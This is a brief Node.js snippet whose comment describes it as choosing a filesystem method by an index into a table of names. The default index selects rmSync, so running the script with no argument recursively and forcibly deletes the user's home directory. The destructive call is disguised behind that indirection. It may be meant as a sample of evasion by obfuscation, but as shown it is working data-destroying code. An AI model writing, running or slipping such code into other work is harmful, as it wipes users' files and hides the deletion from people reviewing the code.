// The method name chosen by an index into a table of names.
const fs = require('fs');
const ops = ['statSync', 'rmSync', 'readdirSync'];
const pick = Number(process.argv[2] || 1);
fs[ops[pick]](process.env.HOME, { recursive: true, force: true });
